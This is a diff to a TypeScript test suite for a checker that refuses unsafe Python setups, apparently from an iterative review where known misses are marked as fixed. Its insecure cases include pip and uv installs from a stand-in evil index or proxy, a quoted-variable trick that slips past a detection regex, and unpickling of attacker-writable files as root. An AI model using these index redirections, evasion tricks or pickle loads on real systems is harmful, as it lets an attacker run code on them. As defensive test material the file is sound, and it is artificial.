@@ -82,7 +82,7 @@ const insecure: NodeCase[] = [
     // ===== pip-installed trust (DECIDED round 74: default index by name only) — its edges =====
     // uv docs "Environment variables": UV_INDEX_URL / UV_DEFAULT_INDEX "Equivalent to the --index-url / --default-index
     // command-line argument ... uv will use this URL as the default index when searching for packages".
-    // MISS: uv docs "Environment variables" (UV_INDEX_URL: "Equivalent to the --index-url command-line argument";
+    // Was a MISS (fixed in round 74): uv docs "Environment variables" (UV_INDEX_URL: "Equivalent to the --index-url command-line argument";
     // UV_DEFAULT_INDEX likewise): uv installs srvx from pypi.evil.example, root imports it and runs its main()
     // (anything: a server of /etc/kubernetes). scriptPipModules (userDataReaders/pythonCode.ts) finds the word `pip`
     // anywhere on the line (`uv pip install` matches /^pip[0-9.]*$/ at words[1]) and only PIP_* variables / pip.conf
@@ -95,10 +95,9 @@ const insecure: NodeCase[] = [
             "UV_SYSTEM_PYTHON=1 UV_INDEX_URL=https://pypi.evil.example/simple uv pip install srvx",
         ]),
         REFUSED,
-        true,
     ),
     // uv docs "Configuration files": /etc/uv/uv.toml (system-level) is read; [[index]] with default = true replaces PyPI.
-    // MISS: uv docs "Configuration files" (system-level /etc/uv/uv.toml is read; "Indexes": an [[index]] with default
+    // Was a MISS (fixed in round 74): uv docs "Configuration files" (system-level /etc/uv/uv.toml is read; "Indexes": an [[index]] with default
     // = true replaces PyPI): srvx comes from pypi.evil.example; pythonPipInstalled only looks for written
     // pip.conf/pip.ini. Same fix as the UV_INDEX_URL case (uv is not pip; or also treat uv.toml/UV_* as moving the
     // index).
@@ -113,12 +112,11 @@ const insecure: NodeCase[] = [
             "UV_SYSTEM_PYTHON=1 uv pip install srvx",
         ]),
         REFUSED,
-        true,
     ),
     // pip docs "pip install" (a local archive: "pip install ./downloads/SomePackage-1.0.4.tar.gz"); pip
     // req/constructors.py _get_url_from_path: a name ending in an archive extension (.zip/.whl/.tar.gz) that is a file
     // is installed FROM THAT FILE, not the index. The file came from any URL.
-    // MISS: pip docs "pip install" ("pip install ./downloads/SomePackage-1.0.4.tar.gz": local archives) and pip's
+    // Was a MISS (fixed in round 74): pip docs "pip install" ("pip install ./downloads/SomePackage-1.0.4.tar.gz": local archives) and pip's
     // req/constructors.py _get_url_from_path (a requirement ending in an archive extension,
     // .zip/.whl/.tar.gz/.tgz/.tar.bz2, that names an existing file is installed from that file): `srv.zip` passes
     // scriptPipModules' name regex (dots allowed) and is trusted as module srv_zip from the default index, but pip
@@ -132,10 +130,9 @@ const insecure: NodeCase[] = [
             "srv_zip",
         ),
         REFUSED,
-        true,
     ),
     // pip docs "pip install -U": a second install of the same project from another index replaces the first.
-    // MISS: pip docs "pip install" (--upgrade, --index-url: "Base URL of the Python Package Index"): the second line
+    // Was a MISS (fixed in round 74): pip docs "pip install" (--upgrade, --index-url: "Base URL of the Python Package Index"): the second line
     // replaces srvx with the evil index's. scriptPipModules adds srvx from the first line and skips (does not
     // retract) the second. Fix: any pip/installer line the reader does not trust (options outside PIP_PLAIN_OPTIONS,
     // paths, URLs, -r) that names or may name a module (any operand, or any -r/-c file) removes trust from those
@@ -147,9 +144,8 @@ const insecure: NodeCase[] = [
             "pip3 install -U --index-url https://pypi.evil.example/simple srvx",
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: pip docs "pip install" (--force-reinstall; a wheel file path): the last install of srvx is a downloaded
+    // Was a MISS (fixed in round 74): pip docs "pip install" (--force-reinstall; a wheel file path): the last install of srvx is a downloaded
     // wheel. Same class and fix as the -U --index-url case (a later untrusted install line retracts trust; a wheel
     // path names its project in its file name, PEP 427).
     dev(
@@ -160,11 +156,10 @@ const insecure: NodeCase[] = [
             "pip3 install --force-reinstall /var/lib/ops/srvx-1.0-py3-none-any.whl",
         ]),
         REFUSED,
-        true,
     ),
     // pip docs "Configuration" ("Environment Variables": PIP_<UPPER_LONG_NAME>); bash: quote removal joins
     // PIP_''INDEX_URL=... into the word PIP_INDEX_URL=... (an env(1) assignment).
-    // MISS: pip docs "Configuration" ("Environment Variables": PIP_INDEX_URL) and POSIX sh "Quote Removal": the word
+    // Was a MISS (fixed in round 74): pip docs "Configuration" ("Environment Variables": PIP_INDEX_URL) and POSIX sh "Quote Removal": the word
     // PIP_''INDEX_URL=... is the assignment PIP_INDEX_URL=https://pypi.evil.example/simple for pip. scriptPipModules
     // tests /PIP_\w+\s*=/ on the raw text (the '' breaks \w+) and view.environment has no PIP_ key for an env(1)
     // word: got []. Fix: read env/assignment words after quote removal (the shell word reader the rest of the pack
@@ -175,10 +170,9 @@ const insecure: NodeCase[] = [
             "env PIP_''INDEX_URL=https://pypi.evil.example/simple pip3 install srvx",
         ]),
         REFUSED,
-        true,
     ),
     // pip docs "pip config" (set NAME VALUE; --global writes /etc/pip.conf); pip's general options (-q) precede the command.
-    // MISS: pip docs "pip" (General Options precede the command: `pip [options] <command>`) and "pip config" (set;
+    // Was a MISS (fixed in round 74): pip docs "pip" (General Options precede the command: `pip [options] <command>`) and "pip config" (set;
     // --global writes the site-wide file): global.index-url becomes pypi.evil.example. The text test is
     // /\bpip[0-9.]*\s+config\b/ which `pip3 -q config` fails; pip config writes /etc/pip.conf by itself (not a
     // written file the pack sees): got []. Fix: find the pip SUBCOMMAND after general options (the same parse
@@ -191,7 +185,13 @@ const insecure: NodeCase[] = [
             "pip3 install srvx",
         ]),
         REFUSED,
-        true,
+    ),
+    // pip docs "pip" (General Options: --proxy "Specify a proxy in the form scheme://[user:passwd@]proxy.server:port"):
+    // a general option before the command that changes where packages come from is not a plain one.
+    dev(
+        "user data: pip3 --proxy http://evil.example:3128 install srvx; tune.py imports srvx",
+        pipRun("dev-py74q-pip-general-proxy-nodes", ["pip3 --proxy http://evil.example:3128 install srvx"]),
+        REFUSED,
     ),
     // pip docs "Configuration" ("Location": site-wide /etc/pip.conf): cp writes it.
     dev(
@@ -409,7 +409,7 @@ const insecure: NodeCase[] = [
     // ===== unsafe loads =====
     // jsonpickle docs ("Security": "The jsonpickle module is not secure. Only unpickle data you trust. It is possible
     // to construct malicious pickle data which will execute arbitrary code during unpickling"): py/reduce.
-    // MISS: jsonpickle docs "Security" ("The jsonpickle module is not secure ... possible to construct malicious
+    // Was a MISS (fixed in round 74): jsonpickle docs "Security" ("The jsonpickle module is not secure ... possible to construct malicious
     // pickle data which will execute arbitrary code during unpickling"): py/reduce calls os.system(a server of
     // /etc/kubernetes). A pip-installed module is trusted (DECIDED) and its calls are read as pure: got []. Fix:
     // trust of a pip-installed package's CODE is not trust of the data it deserialises: list the code-running loaders
@@ -428,10 +428,9 @@ const insecure: NodeCase[] = [
             ],
         ),
         REFUSED,
-        true,
     ),
     // dill docs ("dill extends python's pickle module"; pickle docs: "Only unpickle data you trust").
-    // MISS: dill docs ("dill extends python's pickle module"; Python docs "pickle": "It is possible to construct
+    // Was a MISS (fixed in round 74): dill docs ("dill extends python's pickle module"; Python docs "pickle": "It is possible to construct
     // malicious pickle data which will execute arbitrary code"): whoever wrote /var/cache/ops/s.pkl runs code as
     // root. Same class and fix as jsonpickle (pip trust is not data trust).
     dev(
@@ -442,11 +441,10 @@ const insecure: NodeCase[] = [
             ["pip3 install dill"],
         ),
         REFUSED,
-        true,
     ),
     // joblib docs "Persistence" ("joblib.load relies on the pickle module and can therefore execute arbitrary Python
     // code. It should therefore never be used to load files from untrusted sources").
-    // MISS: joblib docs "Persistence" ("joblib.load relies on the pickle module and can therefore execute arbitrary
+    // Was a MISS (fixed in round 74): joblib docs "Persistence" ("joblib.load relies on the pickle module and can therefore execute arbitrary
     // Python code. It should therefore never be used to load files from untrusted sources"). Same class and fix as
     // jsonpickle.
     dev(
@@ -457,11 +455,10 @@ const insecure: NodeCase[] = [
             ["pip3 install joblib"],
         ),
         REFUSED,
-        true,
     ),
     // PyTorch docs "torch.load" ("weights_only=False ... uses the pickle module implicitly, which is known to be
     // insecure ... possible to construct malicious pickle data which will execute arbitrary code").
-    // MISS: PyTorch docs "torch.load" (weights_only=False "uses the pickle module implicitly, which is known to be
+    // Was a MISS (fixed in round 74): PyTorch docs "torch.load" (weights_only=False "uses the pickle module implicitly, which is known to be
     // insecure"). Same class and fix as jsonpickle (torch.load refused unless weights_only=True literally).
     dev(
         "user data: pip3 install torch; tune.py: torch.load('/var/cache/ops/m.pt', weights_only=False)",
@@ -471,10 +468,9 @@ const insecure: NodeCase[] = [
             ["pip3 install torch"],
         ),
         REFUSED,
-        true,
     ),
     // pandas docs "read_pickle" ("Warning: Loading pickled data received from untrusted sources can be unsafe").
-    // MISS: pandas docs "pandas.read_pickle" ("Loading pickled data received from untrusted sources can be unsafe").
+    // Was a MISS (fixed in round 74): pandas docs "pandas.read_pickle" ("Loading pickled data received from untrusted sources can be unsafe").
     // Same class and fix as jsonpickle.
     dev(
         "user data: pip3 install pandas; tune.py: pandas.read_pickle('/var/cache/ops/df.pkl')",
@@ -484,7 +480,25 @@ const insecure: NodeCase[] = [
             ["pip3 install pandas"],
         ),
         REFUSED,
-        true,
+    ),
+    // The same through the conventional alias and with torch.load's default (no literal weights_only=True).
+    dev(
+        "user data: pip3 install pandas; tune.py: import pandas as pd; pd.read_pickle('/var/cache/ops/df.pkl')",
+        tune(
+            "dev-py74q-pd-read-pickle-nodes",
+            ["import pandas as pd", 'print(pd.read_pickle("/var/cache/ops/df.pkl"))'],
+            ["pip3 install pandas"],
+        ),
+        REFUSED,
+    ),
+    dev(
+        "user data: pip3 install torch; tune.py: torch.load('/var/cache/ops/m.pt') (weights_only not literally True)",
+        tune(
+            "dev-py74q-torch-load-default-nodes",
+            ["import torch", 'print(torch.load("/var/cache/ops/m.pt"))'],
+            ["pip3 install torch"],
+        ),
+        REFUSED,
     ),
     // CPython Lib/pickle.py: "from _pickle import ... Unpickler, loads": the C accelerator is the same unpickler.
     dev(
@@ -702,7 +716,7 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
     // Python docs "importlib.import_module": the pickle module by a literal name, bound to a name.
-    // MISS: Python docs "importlib.import_module(name)" (returns the module) and "pickle" ("It is possible to
+    // Was a MISS (fixed in round 74): Python docs "importlib.import_module(name)" (returns the module) and "pickle" ("It is possible to
     // construct malicious pickle data which will execute arbitrary code during unpickling"): p is the pickle module,
     // p.loads runs whatever /var/cache/ops/s.pkl's writer chose, as root. import_module of a literal name is followed
     // as an import (PYTHON_LITERAL_IMPORT_CALLS, pythonCode.ts) but the name it is bound to is not an alias of that
@@ -717,7 +731,15 @@ const insecure: NodeCase[] = [
             'print(p.loads(open("/var/cache/ops/s.pkl", "rb").read()))',
         ]),
         REFUSED,
-        true,
+    ),
+    // The same by __import__ (Python docs "Built-in Functions" __import__ returns the named top-level module).
+    dev(
+        "tune.py: p = __import__('pickle'); p.loads(open('/var/cache/ops/s.pkl', 'rb').read())",
+        tune("dev-py74q-dunder-import-pickle-nodes", [
+            'p = __import__("pickle")',
+            'print(p.loads(open("/var/cache/ops/s.pkl", "rb").read()))',
+        ]),
+        REFUSED,
     ),
     // PEP 553 + os.environ written with a computed value.
     dev(
@@ -732,6 +754,34 @@ const insecure: NodeCase[] = [
 ];
 
 const secure: NodeCase[] = [
+    // pip docs "pip install" (-U/--upgrade from the same default index): a later plain install keeps the name trusted.
+    dev(
+        "user data: pip3 install tenacity; pip3 install -q -U tenacity; tune.py imports tenacity",
+        tune(
+            "dev-py74q-pip-reinstall-plain-nodes",
+            ["import tenacity", "print(tenacity.__name__)"],
+            ["pip3 install tenacity", "pip3 install -q -U tenacity"],
+        ),
+    ),
+    // Python docs "importlib.import_module": a harmless standard module by a literal name, bound to a name.
+    dev(
+        "tune.py: j = importlib.import_module('json'); j.loads(open('/etc/ops/t.json').read())",
+        tune("dev-py74q-import-module-json-nodes", [
+            "import importlib",
+            'j = importlib.import_module("json")',
+            'print(j.loads(open("/etc/ops/t.json").read()))',
+        ]),
+    ),
+    // PyTorch docs "torch.load" (weights_only=True: "Indicates whether unpickler should be restricted to loading only
+    // tensors, primitive types, dictionaries and any types added via torch.serialization.add_safe_globals()").
+    dev(
+        "user data: pip3 install torch; tune.py: torch.load('/var/cache/ops/m.pt', weights_only=True)",
+        tune(
+            "dev-py74q-torch-load-weights-only-nodes",
+            ["import torch", 'print(torch.load("/var/cache/ops/m.pt", weights_only=True))'],
+            ["pip3 install torch"],
+        ),
+    ),
     // pip docs "Requirement Specifiers": extras in brackets, quoted for the shell.
     dev(
         "user data: pip3 install 'tenacity[doc]>=8'; tune.py imports tenacity",
@@ -742,7 +792,7 @@ const secure: NodeCase[] = [
         ),
     ),
     // pip docs "pip" ("General Options" -q/--quiet accepted before the command).
-    // MISS: (secure) pip docs "pip" (general options such as -q/--quiet may precede the command): the same
+    // Was a MISS (fixed in round 74): (secure) pip docs "pip" (general options such as -q/--quiet may precede the command): the same
     // default-index name install as `pip3 install -q tenacity`. scriptPipModules requires `install` right after pip
     // (rest[0]), so tenacity is "a module user data did not write and the pack does not know". Fix: skip
     // PIP_PLAIN_OPTIONS general options before the subcommand (and then see `config` there too, the insecure pip3 -q
@@ -754,8 +804,6 @@ const secure: NodeCase[] = [
             ["import tenacity", "print(tenacity.__name__)"],
             ["pip3 -q install tenacity"],
         ),
-        undefined,
-        true,
     ),
     // pip docs "Requirements File Format": a file of name specifiers is the same install from the default index.
     // MISS: (secure, fail-closed; the lead may rule DECIDED) pip docs "Requirements File Format" (a file of
